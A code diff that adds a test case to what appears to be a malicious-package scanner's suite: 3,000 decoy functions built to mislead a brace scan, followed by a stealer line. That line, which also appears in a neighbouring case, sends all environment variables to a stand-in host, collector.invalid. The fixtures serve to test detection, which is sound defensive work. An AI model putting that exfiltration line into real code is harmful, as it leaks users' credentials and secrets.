@@ -62,6 +62,21 @@ export const CASES: HostileCase[] = [
     expect: 'parses',
     build: () => rawTgz(pkg({ 'index.js': `const r = /^(a+)+$/; const s = /(x+x+)+y/; const t = '${'a'.repeat(100_000)}!'; module.exports = [r.source, s.source, t.length, require('fs').constants];` })),
   },
+  {
+    // Every function misleads the brace scan of the lazy-body tier (a regex after `)` holding a
+    // brace), so each skip is refused and the file is parsed again in full; the stealer at the end
+    // must still be found, in bounded time.
+    name: 'lazy-body decoys: 3,000 functions that mislead the brace scan, then a stealer',
+    expect: 'flagged',
+    build: () =>
+      rawTgz(
+        pkg({
+          'index.js':
+            Array.from({ length: 3000 }, (_, i) => `function f${i}(s) {\n  let n = ${i};\n  n += s.length * 3;\n  n -= s.length % 7;\n  if (s) /[}{]/.test(s);\n  n += s.length * ${i};\n  return n;\n}\n`).join('') +
+            "require('https').get('https://collector.invalid/?e=' + JSON.stringify(process.env));\n",
+        }),
+      ),
+  },
   { name: 'huge string literal (20 MB)', expect: 'flagged', build: () => rawTgz(pkg({ 'index.js': `module.exports = "${'A'.repeat(20 * MiB)}"; require('https').get('https://collector.invalid/?e=' + JSON.stringify(process.env));` })) },
   { name: 'random bytes named .js', expect: 'flagged', build: () => rawTgz(pkg({ 'index.js': Buffer.concat([Buffer.from('process.env;'), randomBytes(512 * 1024)]) })) },
   {
